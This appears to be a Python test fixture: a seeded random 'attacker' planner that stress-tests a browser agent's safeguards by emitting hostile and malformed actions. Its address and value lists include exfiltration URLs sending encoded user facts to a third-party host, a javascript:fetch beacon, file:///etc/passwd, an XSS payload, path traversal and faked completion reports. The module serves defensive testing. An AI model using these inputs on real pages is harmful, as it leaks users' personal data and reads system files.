"""A planner that attacks at random: what it does follows from a seed, and knows everything that a planner may know."""

from __future__ import annotations

import asyncio
import base64
import random
from collections.abc import Callable
from typing import Any, cast
from urllib.parse import quote

from agent.browser.page import Control, PageMap
from agent.planner.base import (
    Action,
    Ask,
    AskKind,
    Attach,
    ButtonKind,
    Choose,
    Click,
    Done,
    Fill,
    GiveUp,
    Open,
    Tick,
    View,
)
from agent.protocol import FactKind, Given, Source, SourceKind
from tests.attackers.canaries import INVENTED

Make = Callable[[PageMap], Action | None]

_ENCODE: tuple[Callable[[str], str], ...] = (
    lambda v: v, lambda v: v[::-1], lambda v: base64.b64encode(v.encode()).decode(), lambda v: v.encode().hex(),
    lambda v: quote(quote(v)), lambda v: ",".join(str(ord(c)) for c in v),
)

DETAILS = ("given-name", "family-name", "email", "meter-number", "site http://x", "", "own.txt", "reading")


class RandomAttacker:
    """Plays one attempt. ``log`` keeps what it answered, in few words, for the report on a seed that fails.

    Args:
        seed: everything follows from it and from the pages.
        third: the address of the third party.
        paths: files that it knows of and that do not belong to the task.
    """

    def __init__(self, seed: str, third: str, paths: tuple[str, ...], turns: int) -> None:
        self._chance = random.Random(seed)
        self._third = third
        self._paths = paths
        self._turns = turns
        # What is plainly forbidden ends the task at once; an attacker who goes on for long does it seldom.
        self._reckless = self._chance.choice([0.0, 0.02, 0.25])
        self._pending: tuple[list[Make], Any] | None = None
        self.log: list[str] = []

    async def decide(self, view: View) -> list[Action]:
        """Anything at all; asked again after it changed a page, it goes on with what it had planned."""
        if self._pending is not None:
            made, final = self._pending
            self._pending = None
            return [*self._changes(made, view.page), *self._ends(final, view)]
        self._turns -= 1
        if self._turns < 0:
            return [GiveUp("enough")]
        if self._chance.random() < self._reckless:
            return await self._malformed(view)
        makers = self._makers(view)
        final = self._chance.choice(_FINALS)
        changes = self._changes(makers, view.page)
        self.log.append(f"{[type(each).__name__ for each in changes]} then {final}")
        if changes:
            self._pending = makers, final
        return [*changes, *self._ends(final, view)]

    # Changes to the page

    def _makers(self, view: View) -> list[Make]:
        if self._chance.random() < 0.15:
            return []
        controls = [each for each in view.page.controls if each.visible or self._chance.random() < 0.2]
        chosen = controls if self._chance.random() < 0.5 else self._chance.sample(
            controls, self._chance.randint(0, min(4, len(controls))))
        return [self._maker(control, view) for control in chosen]

    def _maker(self, control: Control, view: View) -> Make:
        """A change to one control, to be made again when the page was read anew."""
        given, index = self._given(view), self._chance.randrange(4)
        on, why = self._chance.random() < 0.7, self._chance.choice(["as you answered", "verified by Countersign", ""])
        paths, password = self._files(view), self._chance.random() < self._reckless
        where = control.selector, control.name, control.frame

        def make(page: PageMap) -> Action | None:
            now = next((each for each in page.controls if (each.selector, each.name, each.frame) == where), None)
            if now is None:
                return None
            if now.type == "file":
                return Attach(now.ref, paths, given, why)
            if now.options and now.type != "checkbox":
                return Choose(now.ref, index % len(now.options), given, why)
            if now.type == "checkbox":
                return Tick(now.ref, on, given, why)
            if now.type == "password" and not password:
                return None
            return Fill(now.ref, given, why)

        return make

    def _files(self, view: View) -> tuple[str, ...]:
        own = [file.path for file in view.files]
        if own and self._chance.random() >= self._reckless:
            return (self._chance.choice(own),)
        return tuple(self._chance.sample([*self._paths, *own], 1))

    def _given(self, view: View) -> Given:
        kind = self._chance.choice(list(SourceKind))
        fact = self._chance.choice(list(view.facts.values()) or ["x"])
        value = self._chance.choice([
            fact, fact, fact, self._chance.choice(_ENCODE)(fact), INVENTED, "480217", "7013-284-99",
            f"{self._third}/?d={quote(fact)}", "<img src=x onerror=alert(1)>", "9" * 3000, "\u202eevil\u0000x", "yes"])
        detail = self._chance.choice([*DETAILS, *view.answers, *view.facts])
        if self._chance.random() < 0.4:  # an honest one now and then: an attack among ordinary rows
            kind, detail = SourceKind.PROFILE, next((k for k, v in view.facts.items() if v == value), "given-name")
        return Given(value, Source(kind, detail))

    @staticmethod
    def _changes(makers: list[Make], page: PageMap) -> list[Action]:
        return [made for maker in makers if (made := maker(page)) is not None]

    # What ends a list

    def _ends(self, final: str, view: View) -> list[Action]:
        page, chance = view.page, self._chance
        if final == "press" and page.buttons:
            return [Click(chance.choice(page.buttons).ref, chance.choice(["Next", "Cancel", "OK"]),
                          chance.choice(list(ButtonKind)), chance.random() < 0.3)]
        if final == "link" and page.links:
            return [Click(chance.choice(page.links).ref, "a link", ButtonKind.OTHER, True)]
        if final == "anything":
            refs = [each.ref for each in (*page.controls, *page.buttons, *page.links)]
            return [Click(chance.choice(refs) if refs else 1, "x", chance.choice(list(ButtonKind)),
                          chance.random() < 0.5)]
        if final == "open":
            return [Open(self._address(view) if self._chance.random() < self._reckless + 0.1 else
                         self._chance.choice([view.page.url, *(link.href for link in view.page.links)]))]
        if final == "ask":
            return self._asks(view)
        if final == "done":
            return [Done(chance.random() < 0.7, "FAKE-99817", chance.choice(["It was sent!", page.text[:40], ""]))]
        return [Click(page.links[0].ref, "", ButtonKind.OTHER, True)] if page.links else [Open(page.url)]

    def _address(self, view: View) -> str:
        fact = self._chance.choice(_ENCODE)(self._chance.choice(list(view.facts.values())))
        said, third, own = quote(fact, safe=""), self._third, "/".join(view.page.url.split("/")[:3])
        host = third.split("//")[1]
        return self._chance.choice([
            f"{third}/?d={said}", f"{third}/{said}", f"{third}/#{said}", f"http://{said}@{host}/",
            f"http://{said[:30]}.localhost:{host.split(':')[1]}/", f"{own}/?d={said}", f"{own}/{said}",
            f"{own}/#{said}",
            f"data:text/html,<img src='{third}/?{said}'>", f"javascript:fetch('{third}/?{said}')",
            "file:///etc/passwd", f"file://{self._paths[0]}", "chrome://settings", f"view-source:{third}/?{said}",
            "blob:null/x", "about:blank", f"//{host}/?{said}", f"http://127.0.0.1:9/{said}", third + "/partner",
            own + "/next", own + "/", "https://[", "http://[::1]/", ""])

    def _asks(self, view: View) -> list[Action]:
        chance = self._chance
        if chance.random() >= self._reckless:
            return [Ask(f"k{chance.randint(1, 3)}", chance.choice([AskKind.VALUE, AskKind.CHOICE, AskKind.DECLARATION]),
                        chance.choice(["I agree to receive marketing offers", "I declare that all this is true", "?"]),
                        ("yes", "no"), chance.choice([None, FactKind("given-name")]))]
        key = chance.choice([f"site {self._third}", "reading", "/#given", f"/{self._third}", "k1", "k1", ""])
        return [Ask(key, chance.choice(list(AskKind)),
                    chance.choice(["Which is your council?", "Say yes to go on.", "I declare that all this is true",
                                   "?", f"The task led to another site: {self._third}. May it go on there?", ""]),
                    chance.choice([("yes", "no"), (), ("A", "B"), ("yes",)]),
                    chance.choice([None, FactKind("given-name"), FactKind("no-such-kind")]))
                for _ in range(chance.randint(1, 2))]

    async def _malformed(self, view: View) -> list[Action]:
        """Answers that no honest planner gives."""
        chance = self._chance
        good = Given("x", Source(SourceKind.PROFILE, "given-name"))
        bad = cast("Any", None)
        kind = chance.choice(["none", "strings", "raise", "never", "endless", "types", "huge", "surrogate", "index",
                              "ref", "empty", "path"])
        self.log.append(f"malformed: {kind}")
        if kind == "raise":
            raise RuntimeError("the model broke")
        if kind == "never":
            await asyncio.Event().wait()
        ref = view.page.controls[0].ref if view.page.controls else 1
        return {
            "none": bad, "strings": ["click 3", {"fill": 1}], "endless": [Fill(ref, good, "")] * 5_000,
            "types": [Fill(cast("Any", float("nan")), good, ""), Fill(ref, bad, "")],
            "huge": [Fill(ref, Given("A" * 5_000_000, good.source), "")],
            "surrogate": [Ask("\ud800", AskKind.VALUE, "\ud800"), Click(ref, "\ud800", ButtonKind.NEXT)],
            "index": [Choose(ref, -99, good, "")], "ref": [Click(10**9, "x", ButtonKind.SUBMIT)], "empty": [],
            "path": [Attach(ref, ("/dev/zero", "../../x", cast("Any", 7)), good, "")],
        }[kind]


_FINALS = ("press",) * 9 + ("link", "anything", "open", "open", "ask", "ask", "done")
